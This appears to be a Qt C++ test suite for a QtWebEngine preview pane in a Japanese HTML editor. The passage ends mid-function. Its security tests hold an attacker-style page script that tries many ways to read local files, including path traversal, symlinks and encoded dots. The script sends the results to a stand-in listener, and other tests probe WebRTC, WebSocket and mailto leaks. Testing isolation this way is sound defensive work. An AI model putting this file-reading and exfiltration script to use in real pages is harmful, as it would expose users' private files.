// The real QtWebEngine pane, offscreen: what it shows and where its links lead, which files a
// page's scripts can read, what leaves the machine, how it follows the editor's lines, and how
// it shows a stream of new versions.

#include "MainFormHarness.h"

#include <preview/WebPreview.h>

#include <QApplication>
#include <QDesktopServices>
#include <QImage>
#include <QNetworkDatagram>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <numeric>

using namespace qrn;
using namespace qrn::test;

namespace {

// What the engine answers to `ask` through its callback, once it has.
template <typename T, typename Ask>
T answer(const Ask &ask)
{
    T result{};
    bool done = false;
    ask([&](const T &r) { result = r, done = true; });
    (void)QTest::qWaitFor([&] { return done; }, 10000);
    return result;
}

bool waitForLoad(PreviewView &pane, const std::function<void()> &action)
{
    QSignalSpy spy(&pane, &PreviewView::loadFinished);
    action();
    return spy.wait(30000);
}

bool writePng(const QString &path, QColor color)
{
    QImage image(4, 4, QImage::Format_RGB32);
    image.fill(color);
    return image.save(path);
}

// A long page, one paragraph per line after the first: paragraph k is on line k + 1.
QByteArray longPage(int paragraphs, const QString &extra = {})
{
    QString page = QStringLiteral("<html><body style='margin:0'>\r\n");
    for (int k = 0; k < paragraphs; ++k)
        page += QStringLiteral("<p style='margin:0;height:20px'>行 %1%2</p>\r\n").arg(k).arg(k == paragraphs / 2 ? extra : QString());
    return sjis(page + QStringLiteral("</body></html>\r\n"));
}

// Listeners on the loopback interface standing for the world outside: they count every TCP
// connection and UDP datagram that reaches them, keep what was sent, and answer each HTTP
// request "404", so that a page waiting for it finishes loading.
class Outside {
public:
    Outside()
    {
        m_tcp.listen(QHostAddress::LocalHost);
        m_udp.bind(QHostAddress::LocalHost);
        QObject::connect(&m_tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_tcp.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead, [this, socket, request = QByteArray()]() mutable {
                    const QByteArray data = socket->readAll();
                    received += data;
                    request += data;
                    static const QRegularExpression length(QStringLiteral("content-length: *(\\d+)"), QRegularExpression::CaseInsensitiveOption);
                    const qsizetype headEnd = request.indexOf("\r\n\r\n");
                    const auto match = length.match(QString::fromLatin1(request.left(headEnd)));
                    if (headEnd >= 0 && request.size() >= headEnd + 4 + (match.hasMatch() ? match.captured(1).toInt() : 0)) {
                        socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                        socket->disconnectFromHost();
                        request.clear();
                    }
                });
            }
        });
        QObject::connect(&m_udp, &QUdpSocket::readyRead, [this] {
            while (m_udp.hasPendingDatagrams())
                received += m_udp.receiveDatagram().data(), ++datagrams;
        });
    }

    QString tcpPort() const { return QString::number(m_tcp.serverPort()); }
    QString udpPort() const { return QString::number(m_udp.localPort()); }
    // Waits a little for anything late, since a refused attempt and a slow one look alike at first.
    bool reached(int ms = 1500) const { return QTest::qWaitFor([this] { return connections + datagrams > 0; }, ms); }
    bool got(const QByteArray &text, int ms = 10000) const { return QTest::qWaitFor([&] { return received.contains(text); }, ms); }

    int connections = 0;
    int datagrams = 0;
    QByteArray received;

private:
    QTcpServer m_tcp;
    QUdpSocket m_udp;
};

// Records the URLs a page would have the desktop open in another program.
class DesktopHandler : public QObject {
    Q_OBJECT
public:
    QList<QUrl> opened;
public slots:
    void open(const QUrl &url) { opened << url; }
};

// A pane shown at 400 x 300, on a page of its own folder.
struct ShownPage {
    QTemporaryDir folder;
    QWidget host;
    WebPreview pane{&host};
    QString path = folder.filePath(QStringLiteral("Kiriko_WaitFile.htm"));

    ShownPage()
    {
        host.resize(400, 300);
        pane.widget()->resize(400, 300);
        host.show();
    }
    bool load(const QByteArray &bytes) { return writeBytes(path, bytes) && waitForLoad(pane, [&] { pane.navigate(path); }); }
    QWebEngineView *view() const { return pane.view(); }
    QVariant js(const QString &script) const { return answer<QVariant>([&](const auto &then) { view()->page()->runJavaScript(script, then); }); }
    QString text() const { return js(QStringLiteral("document.body.innerText")).toString(); }
};

// Shows the bytes in the pane and in a fresh one, whose first load is never a patch: the loads
// the pane took, or -1 where what `compared` reads differs between the two.
int loadsToShow(ShownPage &page, const QByteArray &bytes, const QString &compared)
{
    const int loads = page.pane.loadsStarted();
    ShownPage fresh;
    return !page.load(bytes) || !fresh.load(bytes) || page.js(compared) != fresh.js(compared) ? -1 : page.pane.loadsStarted() - loads;
}

// A page that tries every way to read a local file: what each way gave, and the page's own text
// as the control, are sent to a listener outside, as an attacker's page would send them.
QByteArray attackPage(const QString &fileFolder, const QString &absolute, const QString &port)
{
    return QStringLiteral(R"(<html><head><title>attack</title></head><body><p id=own>PAGE-TEXT</p><script>
const settle = p => Promise.race([Promise.resolve(p).then(v => String(v), () => 'refused'),
                                  new Promise(r => setTimeout(() => r('pending'), 8000))]);
const xhr = u => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', u);
    x.onload = () => ok('read:' + x.responseText); x.onerror = no; x.send(); });
const read = u => fetch(u).then(r => r.text()).then(t => 'read:' + t);
const json = u => import(u, { assert: { type: 'json' } }).then(m => 'read:' + JSON.stringify(m.default));
const module = u => import(u).then(m => 'read:' + JSON.stringify(m));
const frame = (u, tag) => new Promise(ok => { const f = document.createElement(tag || 'iframe');
    if (tag === 'object') f.data = u; else f.src = u;
    f.onload = () => { try { ok(f.contentDocument && f.contentDocument.documentElement
                                   ? 'read:' + f.contentDocument.documentElement.outerHTML : 'null'); }
                       catch (e) { ok('refused'); } };
    f.onerror = () => ok('null');
    document.body.appendChild(f); });
const sheet = u => new Promise(ok => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u;
    l.onload = () => { try { ok('read:' + [...l.sheet.cssRules].map(r => r.cssText).join()); } catch (e) { ok('refused'); } };
    l.onerror = () => ok('failed'); document.head.appendChild(l); });
const script = u => new Promise(ok => { const s = document.createElement('script'); s.src = u;
    const caught = e => { window.removeEventListener('error', caught); ok('error:' + e.message); };
    window.addEventListener('error', caught);
    s.onload = () => setTimeout(() => ok(window.ownScriptRan ? 'ran' : 'loaded'), 0);
    s.onerror = () => ok('failed'); document.body.appendChild(s); });
const pixel = (u, cors) => new Promise(ok => { const i = new Image(); if (cors) i.crossOrigin = 'anonymous';
    i.onload = () => { const c = document.createElement('canvas'); c.width = c.height = 4; const g = c.getContext('2d');
        g.drawImage(i, 0, 0); try { ok('read:' + g.getImageData(0, 0, 1, 1).data.join()); } catch (e) { ok('tainted'); } };
    i.onerror = () => ok('failed'); i.src = u; });
const vectors = {
    fetchOwnFile: read('own.txt'), fetchOutsideFile: read('../private/secret.txt'), fetchFolder: read('./'),
    xhrOwnFile: xhr('own.txt'), xhrOutsideFile: xhr('../private/secret.txt'), xhrFolder: xhr('./'),
    xhrOutsideFolder: xhr('../private/'), xhrFileUrl: xhr('FOLDERsecret.txt'), xhrFileFolder: xhr('FOLDER'),
    jsonOwn: json('own.json'), jsonOutside: json('../private/secret.json'), jsonAbsolute: json('ABSOLUTE'),
    jsonFileUrl: json('FOLDERsecret.json'), moduleOwn: module('own.mjs'), moduleOutside: module('../private/secret.mjs'),
    frameOwnText: frame('notes.txt'), frameDotFolder: frame('.docker/config.json'), frameSubPage: frame('sub/page.html'),
    objectOwnText: frame('notes.txt', 'object'), objectSubPage: frame('sub/page.html', 'object'),
    frameOutside: frame('../private/secret.html'), frameSymlink: frame('link.html'),
    frameSymlinkedFolder: frame('linkdir/secret.html'), frameEncodedDots: frame('%2e%2e/private/secret.html'),
    frameEncodedSlash: frame('..%2fprivate%2fsecret.html'), frameFileUrl: frame('FOLDERsecret.txt'), frameFolder: frame('../private/'),
    sheetOwn: sheet('own.css'), sheetOutside: sheet('../private/secret.css'),
    scriptOwn: script('own.js'), scriptErrorOfText: script('notes.txt'), canvasAskingCors: pixel('own.png', true),
    canvasOwn: pixel('own.png'), canvasOutside: pixel('../private/secret.png'), canvasSymlink: pixel('link.png'),
    canvasEncodedDots: pixel('%2e%2e/private/secret.png'),
};
Promise.all(Object.entries(vectors).map(([name, p]) => settle(p).then(v => name + '=' + v))).then(r => {
    window.outcome = r.join(' ');
    document.body.setAttribute('data-outcome', window.outcome);
    fetch('http://127.0.0.1:PORT/report', { method: 'POST', mode: 'no-cors',
                                            body: document.getElementById('own').textContent + ' ' + window.outcome });
});
</script></body></html>
)")
        .replace(QLatin1String("FOLDER"), fileFolder)
        .replace(QLatin1String("ABSOLUTE"), absolute)
        .replace(QLatin1String("PORT"), port)
        .toUtf8();
}

// What Chromium makes of the same page opened from disk, as a user opens the exported page;
// empty where Debian's chromium is not installed.
QString chromiumOutcome(const QString &page)
{
    const QString chromium = QStandardPaths::findExecutable(QStringLiteral("chromium"));
    if (chromium.isEmpty())
        return {};
    QTemporaryDir profile;
    QProcess process;
    QStringList environment = QProcess::systemEnvironment(); // without the proxy the test case set
    environment.removeIf([](const QString &variable) { return variable.contains(QLatin1String("_proxy=")); });
    process.setEnvironment(environment);
    process.start(chromium, QStringLiteral("--headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update "
                                           "--no-first-run --no-proxy-server --virtual-time-budget=20000 --dump-dom")
                                .split(QLatin1Char(' '))
                                << QStringLiteral("--user-data-dir=") + profile.path() << QUrl::fromLocalFile(page).toString());
    // The event loop runs meanwhile: the page reports to a listener of this process.
    if (!QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, 120000))
        return QStringLiteral("chromium did not finish");
    static const QRegularExpression outcome(QStringLiteral("data-outcome=\"([^\"]*)\""));
    return outcome.match(QString::fromUtf8(process.readAllStandardOutput())).captured(1);
}

} // namespace

class WebPreviewTest : public QObject {
    Q_OBJECT

private slots:
    void initTestCase()
    {
        const QByteArray proxy = "http://127.0.0.1:" + m_proxy.tcpPort().toLatin1();
        for (const char *name : {"http_proxy", "https_proxy", "all_proxy"})
            qputenv(name, proxy);
    }

    // A page without a charset is read as Shift_JIS, one that names its own in that; text with none
    // is peeked at for one before it is streamed, and the peek must not eat into it.
    void pagesAreReadInTheirCharsetAndWhole()
    {
        ShownPage page;
        QVERIFY(page.load(sjis(QStringLiteral("<html><body>日本語のページ～＼</body></html>\r\n"))));
        QCOMPARE(page.text(), QStringLiteral("日本語のページ～＼"));
        QVERIFY(!page.pane.goForward());
        page.path = page.folder.filePath(QStringLiteral("utf8.html"));
        QVERIFY(page.load(QStringLiteral("<meta charset=\"utf-8\"><body>ＵＴＦ－８の頁</body>").toUtf8()));
        QCOMPARE(page.text(), QStringLiteral("ＵＴＦ－８の頁"));

        QByteArray text;
        for (int i = 0; text.size() < 8 * 1024 * 1024; ++i)
            text += QByteArray::number(i) + " 0123456789 abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ ~!@#$%^&*()_+ \n";
        const quint32 hash = std::accumulate(text.cbegin(), text.cend(), quint32(0), [](quint32 h, char c) { return h * 31 + quint8(c); });
        page.path = page.folder.filePath(QStringLiteral("large.txt"));
        QVERIFY(page.load(text));
        QCOMPARE(page.js(QStringLiteral(R"((() => {
            const t = document.body.textContent; let h = 0;
            for (let i = 0; i < t.length; ++i) h = (Math.imul(h, 31) + t.charCodeAt(i)) >>> 0;
            return document.contentType + ' ' + document.characterSet + ' ' + t.length + ' ' + h; })())")).toString(),
                 QStringLiteral("text/plain Shift_JIS %1 %2").arg(text.size()).arg(hash));
    }

    // A page in a subfolder of a site shows what a browser shows for it: the site's images and style
    // sheets above it, and links that walk the site back and forth.
    void showsTheSiteAroundThePage()
    {
        ShownPage shown;
        const QTemporaryDir &site = shown.folder;
        QVERIFY(QDir(site.path()).mkpath(QStringLiteral("sub")) && QDir(site.path()).mkpath(QStringLiteral("images")));
        QVERIFY(writePng(site.filePath(QStringLiteral("images/logo.png")), Qt::red));
        QVERIFY(writeBytes(site.filePath(QStringLiteral("style.css")), "#box { width: 123px; height: 10px }"));
        QVERIFY(writeBytes(site.filePath(QStringLiteral("index.html")),
                           sjis(QStringLiteral("<a href='nothing.html' style='display:block;height:40px'>x</a><p>目次</p>"
                                               "<img id=logo src='images/logo.png'>"))));
        shown.path = site.filePath(QStringLiteral("sub/Kiriko_WaitFile.htm"));
        QVERIFY(shown.load(sjis(QStringLiteral("<link rel=stylesheet href='../style.css'>"
                                               "<a href='../index.html' style='display:block;height:40px'>上へ</a><p>下の頁</p>"
                                               "<div id=box></div><img id=logo src='../images/logo.png'>"))));
        WebPreview &pane = shown.pane;
        const QString logoWidth = QStringLiteral("document.getElementById('logo').naturalWidth");
        QTRY_COMPARE(shown.js(logoWidth).toInt(), 4);
        QCOMPARE(shown.js(QStringLiteral("document.getElementById('box').offsetWidth")).toInt(), 123);

        // The user clicks the link at the top of each page.
        const auto clickLink = [&] {
            QTRY_VERIFY(pane.view()->focusProxy());
            QTest::mouseClick(pane.view()->focusProxy(), Qt::LeftButton, {}, QPoint(10, 20));
        };
        QVERIFY(waitForLoad(pane, clickLink));
        QTRY_COMPARE(shown.js(logoWidth).toInt(), 4);
        QVERIFY(waitForLoad(pane, [&] { QVERIFY(pane.goBack()); }));
        QVERIFY(shown.text().contains(QStringLiteral("下の頁")));
        QVERIFY(waitForLoad(pane, [&] { QVERIFY(pane.goForward()); }));
        QVERIFY(shown.text().contains(QStringLiteral("目次")));

        // A page that is not there: the engine's error page, in Japanese.
        QVERIFY(waitForLoad(pane, clickLink));
        const QString error = answer<QString>([&](const auto &then) { pane.view()->page()->toPlainText(then); });
        QVERIFY2(error.contains(QRegularExpression(QStringLiteral("[\\x{3040}-\\x{30FF}\\x{4E00}-\\x{9FFF}]{4}")))
                     && !error.contains(QRegularExpression(QStringLiteral("[A-Za-z]{3,} [A-Za-z]{3,}"))),
                 qPrintable(error));
    }

    // Every way a script might read a local file other than its page, in the page itself: nothing
    // reaches the listener but the page's own text, and Chromium agrees vector by vector.
    void scriptsReadNoLocalFile()
    {
        Outside outside;
        QTemporaryDir root;
        const QDir dir(root.path());
        QVERIFY(dir.mkpath(QStringLiteral("site/sub")) && dir.mkpath(QStringLiteral("site/.docker")) && dir.mkpath(QStringLiteral("private")));
        // A name, so that a script error naming it would carry it.
        const QByteArray secret = "SECRET_" + QByteArray::number(QRandomGenerator::global()->generate());
        const std::pair<const char *, QByteArray> files[] = {
            {"private/secret.txt site/own.txt site/notes.txt site/.docker/config.json", secret},
            {"private/secret.html site/sub/page.html", "<p>" + secret + "</p>"},
            {"private/secret.json site/own.json", "{\"s\": \"" + secret + "\"}"},
            {"private/secret.mjs site/own.mjs", "export const s = '" + secret + "';"},
            {"private/secret.css site/own.css", "#" + secret + " { color: red }"},
            {"site/own.js", "window.ownScriptRan = true;"}};
        for (const auto &[names, bytes] : files)
            for (const QString &name : QString::fromLatin1(names).split(QLatin1Char(' ')))
                QVERIFY(writeBytes(root.filePath(name), bytes));
        QVERIFY(writePng(root.filePath(QStringLiteral("private/secret.png")), Qt::green));
        QVERIFY(writePng(root.filePath(QStringLiteral("site/own.png")), Qt::blue));
        QVERIFY(QFile::link(root.filePath(QStringLiteral("private/secret.html")), root.filePath(QStringLiteral("site/link.html"))));
        QVERIFY(QFile::link(root.filePath(QStringLiteral("private/secret.png")), root.filePath(QStringLiteral("site/link.png"))));
        QVERIFY(QFile::link(root.filePath(QStringLiteral("private")), root.filePath(QStringLiteral("site/linkdir"))));

        const QString fileFolder = QUrl::fromLocalFile(root.filePath(QStringLiteral("private"))).toString() + QLatin1Char('/');
        const QByteArray attack = attackPage(fileFolder, root.filePath(QStringLiteral("private/secret.json")), outside.tcpPort());
        ShownPage page;
        page.path = root.filePath(QStringLiteral("site/Kiriko_WaitFile.htm"));
        QVERIFY(page.load(attack));
        QVERIFY(QTest::qWaitFor([&] { return page.js(QStringLiteral("window.outcome")).isValid(); }, 60000));
        const QString outcome = page.js(QStringLiteral("window.outcome")).toString();
        QVERIFY2(outside.got("PAGE-TEXT fetchOwnFile="), qPrintable(outcome + QString::fromUtf8(outside.received)));
        QVERIFY2(!outside.received.contains(secret) && !outside.received.contains(",255,"), outside.received.constData());
        QCOMPARE(outcome, QStringLiteral(
            "fetchOwnFile=refused fetchOutsideFile=refused fetchFolder=refused xhrOwnFile=refused xhrOutsideFile=refused "
            "xhrFolder=refused xhrOutsideFolder=refused xhrFileUrl=refused xhrFileFolder=refused jsonOwn=refused "
            "jsonOutside=refused jsonAbsolute=refused jsonFileUrl=refused moduleOwn=refused moduleOutside=refused "
            "frameOwnText=null frameDotFolder=null frameSubPage=null objectOwnText=null objectSubPage=null frameOutside=null "
            "frameSymlink=null frameSymlinkedFolder=null frameEncodedDots=null frameEncodedSlash=null frameFileUrl=null "
            "frameFolder=null sheetOwn=refused sheetOutside=refused scriptOwn=ran scriptErrorOfText=error:Script error. "
            "canvasAskingCors=failed canvasOwn=tainted canvasOutside=tainted "
            "canvasSymlink=tainted canvasEncodedDots=tainted"));

        // The same page exported beside it and opened in Chromium from disk.
        const QString exported = root.filePath(QStringLiteral("site/export.html"));
        QVERIFY(writeBytes(exported, attack));
        if (const QString chromium = chromiumOutcome(exported); !chromium.isEmpty())
            QCOMPARE(outcome, chromium);
        else
            qInfo("Chromium is not installed: the comparison with it is skipped.");
    }

    // Web traffic goes out as from a browser (images, fetch, WebSocket); WebTransport and WebRTC
    // send nothing, a clicked link opens nothing, and nothing goes through the desktop's proxy.
    void pagesReachTheWebOnlyAsABrowserDoes()
    {
        Outside web, closed;
        ShownPage page;
        QVERIFY(page.load("<body style='margin:0'><a id=link style='display:block;height:300px'>link</a></body>"));
        // WebTransport and a STUN server on the loopback interface, and a relay over TCP through the desktop's proxy.
        page.js(QStringLiteral(R"(
            const host = '127.0.0.1:%1', silent = '127.0.0.1:%2', found = [];
            new WebSocket('ws://' + host + '/socket');
            fetch('http://' + host + '/fetch', { mode: 'no-cors' });
            new Image().src = 'http://' + host + '/image';
            const transport = Promise.race([new Promise((ok, no) => new WebTransport('https://' + silent + '/').ready.then(ok, no))
                                                .then(() => 'through', () => 'refused'),
                                            new Promise(r => setTimeout(() => r('pending'), 4000))]);
            const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + silent},
                {urls: 'turn:relay.example.com:3478?transport=tcp', username: 'u', credential: 'p'}]});
            pc.createDataChannel('names and contents');
            const gathered = new Promise(ok => {
                pc.onicecandidate = e => { if (e.candidate) found.push(e.candidate.candidate); else ok('gathered:' + found.join('|')); };
                setTimeout(() => ok('pending:' + found.join('|')), 5000); });
            pc.createOffer().then(offer => pc.setLocalDescription(offer));
            Promise.all([transport, gathered]).then(r => window.outcome = 'webtransport:' + r.join(' '));
        )").arg(web.tcpPort(), closed.udpPort()));
        QTRY_COMPARE_WITH_TIMEOUT(page.js(QStringLiteral("window.outcome")).toString(), QStringLiteral("webtransport:refused gathered:"), 30000);
        for (const char *request : {"GET /socket", "Upgrade: websocket", "GET /fetch", "GET /image"})
            QVERIFY2(web.got(request), request);
        QVERIFY2(!closed.reached() && !m_proxy.reached(0), (closed.received + m_proxy.received).left(300).constData());

        // The user clicks a link: to a mail program with the page's text, then to a web server.
        DesktopHandler desktop;
        QDesktopServices::setUrlHandler(QStringLiteral("mailto"), &desktop, "open");
        for (const QString &href : {QStringLiteral("mailto:someone@example.com?body=names%20and%20contents"),
                                    QStringLiteral("http://127.0.0.1:%1/clicked").arg(closed.tcpPort())}) {
            page.js(QStringLiteral("document.getElementById('link').href = '%1';"
                                   " document.body.onclick = () => window.clicked = true; window.clicked = false;").arg(href));
            QTRY_VERIFY(page.view()->focusProxy());
            QTest::mouseClick(page.view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
            QTRY_VERIFY(page.js(QStringLiteral("window.clicked")).toBool());
            QVERIFY2(!closed.reached() && !m_proxy.reached(0), closed.received.left(300).constData());
            QVERIFY(desktop.opened.isEmpty());
            QCOMPARE(page.view()->url(), page.pane.urlOfFile(page.path));
        }
        QDesktopServices::unsetUrlHandler(QStringLiteral("mailto"));
    }

    // A page whose file cannot be written is shown from memory, its references resolving in its
    // folder; once the file is written, navigating shows the file again.
    void unwritableScratchFileShowsThePageFromMemory()
    {
        ShownPage page;
        const QString folder = page.folder.path();
        const auto all = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner;
        QVERIFY(QDir(folder).mkdir(QStringLiteral("img")) && writePng(page.folder.filePath(QStringLiteral("img/logo.png")), Qt::red));
        QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner));
        const auto writable = qScopeGuard([&] { QFile::setPermissions(folder, all); });
        const auto bytes = [](const QString &text) {
            return sjis(QStringLiteral("<html><body>\r\n<p id=t>%1</p><img id=logo src='img/logo.png'>\r\n</body></html>\r\n").arg(text));
        };
        const QString shownText = QStringLiteral("document.getElementById('t').textContent");
        QVERIFY(waitForLoad(page.pane, [&] { page.pane.showUnsaved(page.path, bytes(QStringLiteral("メモリの頁"))); }));
        QCOMPARE(page.js(shownText).toString(), QStringLiteral("メモリの頁"));
        QTRY_COMPARE(page.js(QStringLiteral("document.getElementById('logo').naturalWidth")).toInt(), 4);
        QVERIFY(!QFileInfo::exists(page.path));
        QVERIFY(waitForLoad(page.pane, [&] { page.pane.showUnsaved(page.path, bytes(QStringLiteral("次の版"))); }));
        QCOMPARE(page.js(shownText).toString(), QStringLiteral("次の版"));

        QVERIFY(QFile::setPermissions(folder, all));
        QVERIFY(page.load(bytes(QStringLiteral("ファイルの頁"))));
        QCOMPARE(page.js(shownText).toString(), QStringLiteral("ファイルの頁"));
    }

    void previewFollowsLinesBothWays()
    {
        ShownPage page;
        QVERIFY(page.load(longPage(400)));
        // Where a paragraph's text starts in the pane.
        const auto topOf = [&](int paragraph) {
            return page.js(QStringLiteral("(() => { const r = document.createRange(), t = document.querySelectorAll('p')[%1].firstChild;"
                                          " r.setStart(t, 0); r.setEnd(t, 1); return r.getBoundingClientRect().top; })()")
                               .arg(paragraph)).toDouble();
        };
        page.pane.followLine(201, 0.0);
        QTRY_VERIFY(qAbs(topOf(200)) < 1);
        page.pane.followLine(101, 0.5);
        const double middle = page.js(QStringLiteral("innerHeight / 2")).toDouble();
        QTRY_VERIFY2(qAbs(topOf(100) - middle) < 1, qPrintable(QString::number(topOf(100) - middle)));

        // The user double-clicks a paragraph: the line that made it.
        QSignalSpy clicked(&page.pane, &PreviewView::lineDoubleClicked);
        QTRY_VERIFY(page.view()->focusProxy());
        QTest::mouseDClick(page.view()->focusProxy(), Qt::LeftButton, {}, QPoint(20, qRound(topOf(104) + 10)));
        QTRY_COMPARE(clicked.size(), 1);
        QCOMPARE(clicked.first().first().toInt(), 105);
        // A caret at the editor's foot: the line stays in view. On the closing tags: the page's end.
        page.pane.followLine(301, 1.0);
        QTRY_VERIFY2(qAbs(topOf(300) + 20 - 2 * middle) < 1, qPrintable(QString::number(topOf(300))));
        page.pane.followLine(401, 0.5);
        QTRY_COMPARE(page.js(QStringLiteral("scrollY + innerHeight - document.documentElement.scrollHeight")).toInt(), 0);

        // An element put in where the pane is scrolled: patched, the scroll and the history as they were.
        page.pane.followLine(201, 0.0);
        QTRY_VERIFY(qAbs(topOf(200)) < 1);
        const QVariant before = page.js(QStringLiteral("[scrollY, history.length]"));
        QCOMPARE(loadsToShow(page, longPage(400, QStringLiteral("<b>太</b>")), QStringLiteral("document.body.innerHTML")), 0);
        QCOMPARE(page.js(QStringLiteral("[scrollY, history.length]")), before);
    }

    // Changes that each need a load, while loads are running: one load at a time, only the newest
    // waiting, and each version shown only once it is at the place of the one before.
    void burstOfChangesShowsOnlyFinishedVersionsInPlace()
    {
        ShownPage page;
        QVERIFY(page.load(longPage(1500)));
        page.js(QStringLiteral("window.scrollTo(0, 1500)"));
        QTRY_COMPARE(page.js(QStringLiteral("window.scrollY")).toInt(), 1500);

        // Every scroll position a visible page reports, and how many loads run at once.
        QList<int> visibleScroll, scrollWhenShown;
        int loading = 0, mostLoading = 0, version = 0;
        const auto change = [&] {
            // A page with a script is always loaded again: each version takes a load.
            QVERIFY(writeBytes(page.path, longPage(1500, QStringLiteral("<b>版%1</b><script></script>").arg(++version))));
            page.pane.navigate(page.path);
        };
        for (QWebEngineView *view : page.pane.widget()->findChildren<QWebEngineView *>()) {
            QWebEnginePage *p = view->page();
            connect(p, &QWebEnginePage::scrollPositionChanged, this, [&, p](const QPointF &at) {
                if (page.view()->page() == p)
                    visibleScroll << qRound(at.y());
            });
            connect(p, &QWebEnginePage::loadFinished, this, [&] { --loading; });
            // Three changes whenever a load starts, fifteen in all.
            connect(p, &QWebEnginePage::loadStarted, this, [&] {
                mostLoading = std::max(mostLoading, ++loading);
                for (int i = 0; i < 3 && version < 15; ++i)
                    change();
            });
        }
        connect(&page.pane, &PreviewView::loadFinished, this, [&] { scrollWhenShown << qRound(page.view()->page()->scrollPosition().y()); });
        const int loadsBefore = page.pane.loadsStarted();
        change();
        QTRY_VERIFY_WITH_TIMEOUT(page.text().contains(QStringLiteral("版15")) && loading == 0, 60000);
        QCOMPARE(mostLoading, 1);
        QVERIFY2(page.pane.loadsStarted() - loadsBefore <= 7, qPrintable(QString::number(page.pane.loadsStarted() - loadsBefore)));
        QCOMPARE(page.js(QStringLiteral("window.scrollY")).toInt(), 1500);
        QVERIFY(!scrollWhenShown.isEmpty());
        for (int y : scrollWhenShown + visibleScroll)
            QCOMPARE(y, 1500);
    }

    // A change is patched into the shown page without a load where the result, markers included, is
    // what a load of that version shows; otherwise the version is loaded.
    void changesArePatchedOnlyWhereAReloadWouldAgree()
    {
        ShownPage page;
        const auto change = [&](const QByteArray &bytes) { return loadsToShow(page, bytes, QStringLiteral("document.documentElement.outerHTML")); };
        const auto lines = [](const QString &text, const QString &around = QStringLiteral("p")) {
            return sjis(QStringLiteral("<html><body>\r\n<%2>\r\n%1\r\nline &amp; more\r\n</%2>\r\n</body></html>\r\n").arg(text, around));
        };
        QVERIFY(change(lines(QStringLiteral("最初"))) > 0);
        QCOMPARE(change(lines(QStringLiteral("二番目&lt;"))), 0);
        QCOMPARE(change(lines(QStringLiteral("三番目\r\n四行目"))), 0);
        // The paragraph becomes a table whose text the parser moves before it: the new page's own
        // parse of the block is put in, as a load would. Text changed inside the table then needs a
        // load: the text patch does not reach into a table.
        QCOMPARE(change(lines(QStringLiteral("表の前"), QStringLiteral("table"))), 0);
        QCOMPARE(change(lines(QStringLiteral("表の後"), QStringLiteral("table"))), 1);

        // One run of text among tags, also on the page's last line; text the parser moves out of its
        // table is patched only where it moves as before.
        const auto runs = [](const char *cell, const char *beside, const char *alone, const char *last) {
            return sjis(QStringLiteral("<html><body>\r\n<table><tr><td>%1</td></tr></table>\r\n<table><tr><td>x</td>%2</tr></table>\r\n"
                                       "<table><tr>%3</tr></table>\r\n<p><b>太字</b>と%4\r\n")
                            .arg(QString::fromUtf8(cell), QString::fromUtf8(beside), QString::fromUtf8(alone), QString::fromUtf8(last)));
        };
        QVERIFY(change(runs("升", "外", "離", "本文")) > 0);
        QCOMPARE(change(runs("升目", "外", "離", "本文")), 0);
        QCOMPARE(change(runs("升目", "外", "離", "本文です")), 0);
        QCOMPARE(change(runs("升目", "外へ", "離", "本文です")), 1);
        QCOMPARE(change(runs("升目", "外へ", "離れ", "本文です")), 0);
        // Blank text stays in the table, so turning text blank needs a load.
        QCOMPARE(change(runs("升目", "外へ", " ", "本文です")), 1);

        // A page with a script is always loaded again, so what the script did is done again.
        const QByteArray scripted = sjis(QStringLiteral("<body>\r\n<script>document.write('書いた')</script>\r\n文\r\n</body>\r\n"));
        QVERIFY(change(scripted) > 0);
        QCOMPARE(change(QByteArray(scripted).replace(sjis(QStringLiteral("文")), sjis(QStringLiteral("文章")))), 1);

        // Elements added, removed and changed in the body are patched in place where the page is then
        // what a load shows: random single edits of a page, each compared with a fresh load.
        QStringList body =
            QStringLiteral("<h1>題</h1>|<p>一段落目|<b>太字</b>と文|</p>|<ul>|<li>項目|</ul>|<div>箱</div>|おわり").split(QLatin1Char('|'));
        const QStringList inserts = QStringLiteral("<b>強く</b>|<i>斜め</i>文|<p>新しい段落|<div>|</div>|<li>追加|"
                                                   "<table><tr><td>升</td></tr></table>|</b>|<br>").split(QLatin1Char('|'));
        const auto edit = [&] {
            return loadsToShow(page, sjis(QStringLiteral("<html><head><title>t</title></head><body>\r\n") + body.join(QStringLiteral("\r\n"))
                                          + QStringLiteral("\r\n</body></html>\r\n")),
                               QStringLiteral("document.body.innerHTML"));
        };
        QVERIFY(edit() > 0);
        QRandomGenerator random(42);
        int patched = 0;
        for (int i = 0; i < 24; ++i) {
            // Drawn in this order: where, what kind of edit, then what is put in.
            const int at = random.bounded(int(body.size())), kind = random.bounded(3);
            const QString piece = kind < 2 ? inserts[random.bounded(int(inserts.size()))] : QString();
            if (kind == 0)
                body.insert(at, piece);
            else if (kind == 1)
                body[at] += piece;
            else if (body.size() > 3)
                body.removeAt(at);
            const int loads = edit();
            QVERIFY2(loads >= 0, qPrintable(body.join(QLatin1Char('|'))));
            patched += loads == 0;
        }
        QVERIFY2(patched >= 4, qPrintable(QString::number(patched)));
    }

    // The window with the real pane: its title follows the pane's loads, and the pane shows the
    // converted editor text, a page that declares UTF-8 written and read in UTF-8.
    void mainWindowTitleFollowsTheRealPane()
    {
        QTemporaryDir dir;
        QVERIFY(makeProgramFolder(dir.path()));
        HenkanMod henkan;
        ScriptedMessageBoxes boxes;
        ScriptedWindows windows;
        MainForm form(henkan, dir.path(), boxes, std::make_unique<ScriptedDialogs>(), windows,
                      [](QWidget *parent) { return new WebPreview(parent); });
        QVERIFY(form.Form_Load());
        form.show();
        QTRY_COMPARE_WITH_TIMEOUT(form.windowTitle(), QStringLiteral("QRN - [QRNドキュメント]"), 20000);

